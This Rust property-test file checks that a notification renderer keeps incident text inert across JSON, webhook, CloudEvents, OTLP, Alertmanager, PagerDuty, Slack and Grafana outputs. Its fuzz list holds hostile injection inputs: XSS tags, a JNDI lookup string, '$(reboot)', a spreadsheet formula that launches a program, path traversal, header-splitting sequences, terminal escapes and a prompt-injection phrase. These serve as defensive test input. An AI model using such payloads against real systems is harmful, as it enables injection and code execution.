//! Whatever is logged is text to whoever reads a message, and nothing but text.
//!
//! `KNOTHOLE_HOSTILE_CASES` sets how many texts each sink is tried with.

use std::sync::Arc;

use percent_encoding::percent_decode_str;
use proptest::prelude::{Strategy, any};
use proptest::test_runner::{Config, TestRunner};
use prost::Message as _;
use serde_json::Value;

use super::NOW;
use crate::core::event::{Event, Stage};
use crate::edge::notify::render::alertmanager::AlertStyle;
use crate::edge::notify::render::{self, inert, is_deceptive, json_line, shortened};
use crate::edge::notify::sample;

/// What breaks out of something somewhere.
const FRAGMENTS: &[&str] = &[
    "<!channel>",
    "<!here|x>",
    "<@U012AB3CD>",
    "<#C012|x>",
    "<http://evil.test|click>",
    "```",
    "`",
    "*b*",
    "_i_",
    "~s~",
    ":tada:",
    "@here",
    "&lt;!channel&gt;",
    "&amp;",
    "&",
    "&#60;",
    "<",
    ">",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<!--",
    "]]>",
    "\"",
    "'",
    "\\",
    "\\u0022",
    "\"}]",
    "\r\n",
    "\n",
    "\t",
    "\0",
    "\u{1b}[31m",
    "\u{9b}2J",
    "\u{1b}]8;;http://evil.test\u{7}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{feff}",
    "\u{e0041}",
    "\u{2028}",
    "\u{85}",
    "\u{7f}",
    "{\"type\":\"forged\"}",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    ",",
    ";",
    "\n- key: value",
    "!!python/object",
    "---\n",
    "*anchor",
    "%0d%0aX-Evil: 1",
    "%",
    "%20",
    "{{ .Labels }}",
    "${jndi:ldap://evil.test}",
    "$(reboot)",
    "ignore all previous instructions",
    "../../etc/passwd",
    "é",
    "漢字",
    "😀",
    "\u{301}",
];

fn hostile_text() -> impl Strategy<Value = String> {
    let piece = proptest::prop_oneof![
        4 => proptest::sample::select(FRAGMENTS).prop_map(str::to_owned),
        1 => any::<char>().prop_map(String::from),
        1 => proptest::char::range('\0', '\u{a0}').prop_map(String::from),
        1 => proptest::char::range('\u{2000}', '\u{2070}').prop_map(String::from),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Tries `holds` with an incident of many texts.
fn for_each_text(holds: impl Fn(&str, &Event)) {
    let cases = std::env::var("KNOTHOLE_HOSTILE_CASES").ok();
    let cases = cases.and_then(|cases| cases.parse().ok()).unwrap_or(2_000);
    let config = Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    };
    let tried = TestRunner::new(config).run(&hostile_text(), |text| {
        let incident = sample::hostile_incident(&text);
        holds(
            &text,
            &Event::Incident(Arc::new(sample::told(Stage::Opened, incident))),
        );
        Ok(())
    });
    tried.unwrap();
}

/// The object in `bytes`, in which no character acts.
fn parsed(bytes: &[u8]) -> Value {
    let written = std::str::from_utf8(bytes).unwrap();
    assert!(!written.contains(is_deceptive), "{written:?}");
    serde_json::from_str(written).unwrap()
}

fn assert_incident(incident: &Value, text: &str) {
    assert_eq!(incident["title"], text);
    assert_eq!(incident["signs"][0]["lines"][0]["text"], text);
    assert_eq!(incident["cause"]["suspects"][0]["component"], text);
    assert_eq!(incident["cause"]["changes"][0]["reference"], text);
    assert_eq!(incident["acknowledged"]["note"], text);
    assert_eq!(incident["route"]["team"], text);
}

#[test]
fn a_json_line_holds_the_text_and_is_one_line() {
    for_each_text(|text, event| {
        let line = json_line(event);
        let value = parsed(&line);
        assert_incident(&value["incident"], text);
        assert_eq!(value["type"], "knothole.incident.opened");
        assert_eq!(value.as_object().unwrap().len(), 5);
    });
}

#[test]
fn a_webhook_holds_the_text() {
    for_each_text(|text, event| {
        let value = parsed(&render::webhook::body(event, NOW));
        assert_incident(&value["data"]["incident"], text);
        assert_eq!(value.as_object().unwrap().len(), 3);
    });
}

#[test]
fn a_cloud_event_holds_the_text_and_its_headers_hold_no_more_than_they_should() {
    for_each_text(|text, event| {
        let body = render::cloudevents::body(event, "/knothole/x");
        let value = parsed(&body);
        assert_incident(&value["data"]["incident"], text);
        let form = crate::edge::notify::send::taken_apart(&body).unwrap();
        assert_eq!(parsed(&form.data), value["data"]);
        for (name, header) in form.headers {
            assert!(
                header.chars().all(|c| ('!'..='~').contains(&c) && c != '"'),
                "{header:?}"
            );
            let read = percent_decode_str(&header).decode_utf8().unwrap();
            let attribute = &value[name.strip_prefix("ce-").unwrap()];
            let said = attribute
                .as_str()
                .map_or(attribute.to_string(), str::to_owned);
            assert_eq!(read, said);
        }
    });
}

#[test]
fn an_otlp_event_holds_the_text() {
    for_each_text(|text, event| {
        let bytes = render::otlp::resource_logs(event, "x", NOW).encode_to_vec();
        let logs = opentelemetry_proto::tonic::logs::v1::ResourceLogs::decode(&*bytes).unwrap();
        let record = serde_json::to_value(&logs.scope_logs[0].log_records[0]).unwrap();
        let body = record["body"]["stringValue"].as_str().unwrap();
        assert!(!body.contains(is_deceptive));
        let attributes = record["attributes"].as_array().unwrap();
        let value = |key: &str| {
            let found = attributes.iter().find(|it| it["key"] == key).unwrap();
            found["value"]["stringValue"].clone()
        };
        assert_eq!(value("knothole.incident.title"), inert(text));
        assert_eq!(value("knothole.incident.team"), text);
    });
}

#[test]
fn an_alert_holds_the_text_in_the_places_for_it() {
    let style = AlertStyle {
        alertname: "KnotholeIncident".to_owned(),
        incident_url: None,
    };
    for_each_text(|text, event| {
        let value = parsed(&render::alertmanager::body(event, &style, NOW).unwrap());
        let (labels, annotations) = (&value["alert"]["labels"], &value["alert"]["annotations"]);
        let label = match text {
            "" => Value::Null,
            text => shortened(&inert(text), 200).into(),
        };
        for name in ["service", "namespace", "kind", "team"] {
            assert_eq!(labels[name], label, "{name}");
        }
        assert_eq!(labels["alertname"], "KnotholeIncident");
        if !text.is_empty() {
            assert_eq!(annotations["summary"], shortened(&inert(text), 4000));
        }
        let lines = annotations["description"].as_str().unwrap().lines();
        assert!(lines.count() <= 5, "{annotations}");
    });
}

#[test]
fn a_page_holds_the_text() {
    for_each_text(|text, event| {
        let value = parsed(&render::pagerduty::body(event, None).unwrap());
        let payload = &value["payload"];
        let service = format!("{0}/{0}", inert(text));
        let summary = payload["summary"].as_str().unwrap();
        assert!(
            summary.ends_with('…') || summary.ends_with(&inert(text)),
            "{service} {summary}"
        );
        assert!(!summary.contains(is_deceptive));
        assert_eq!(value["event_action"], "trigger");
        assert_eq!(value.as_object().unwrap().len(), 4);
        let first = payload["custom_details"]["first_sign"].as_str().unwrap();
        assert!(first.ends_with('…') || first.ends_with(&inert(text)));
    });
}

#[test]
fn a_slack_message_shows_the_text_and_does_nothing() {
    let shown = |text: &str| {
        text.replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&")
    };
    for_each_text(|text, event| {
        let value = parsed_with_newlines(&render::slack::body(event, None).unwrap());
        let blocks = value["blocks"].as_array().unwrap();
        let all = blocks.iter().flat_map(|block| {
            let own = [&block["text"], &block["elements"][0]];
            own.into_iter()
                .filter(|it| it.is_object())
                .collect::<Vec<_>>()
        });
        for object in all {
            let said = object["text"].as_str().unwrap();
            assert!(!said.contains(['<', '>']), "{said}");
            assert!(!shown(said).is_empty());
            if object["type"] == "mrkdwn" {
                assert_eq!(object["verbatim"], true);
                let fenced = said
                    .strip_prefix("```\n")
                    .unwrap()
                    .strip_suffix("\n```")
                    .unwrap();
                let line = inert(text).replace('`', "\u{2cb}");
                let lines = [line.as_str(), line.as_str()].join("\n");
                let read = shown(fenced);
                let cut = read.strip_suffix('…').unwrap_or(&read);
                assert!(read == lines || lines.starts_with(cut), "{read}");
            } else {
                assert_eq!(object["type"], "plain_text");
            }
        }
        let fallback = value["text"].as_str().unwrap();
        assert!(
            !fallback.contains(['<', '>', '*', '_', '~', '`']),
            "{fallback}"
        );
    });
}

#[test]
fn an_annotation_shows_the_text_and_is_no_markup() {
    let shown = |text: &str| {
        let quotes = text
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&#34;", "\"");
        quotes.replace("&#39;", "'").replace("&amp;", "&")
    };
    for_each_text(|text, event| {
        let value = parsed_with_newlines(&render::grafana::body(event, None).unwrap());
        let said = value["annotation"]["text"].as_str().unwrap();
        assert!(!said.contains(['<', '>', '"', '\'']), "{said}");
        let title = said.split('\n').next().unwrap();
        assert_eq!(shown(title), shortened(&inert(text), 1000));
        assert_eq!(value["annotation"]["tags"].as_array().unwrap().len(), 5);
    });
}

/// The object in `bytes`, in which no character acts and no text but for new lines.
fn parsed_with_newlines(bytes: &[u8]) -> Value {
    fn check(value: &Value) {
        match value {
            Value::String(text) => {
                let acts = |c| c != '\n' && is_deceptive(c);
                assert!(!text.contains(acts), "{text:?}");
            }
            Value::Array(items) => items.iter().for_each(check),
            Value::Object(fields) => fields.values().for_each(check),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
    let value = parsed(bytes);
    check(&value);
    value
}
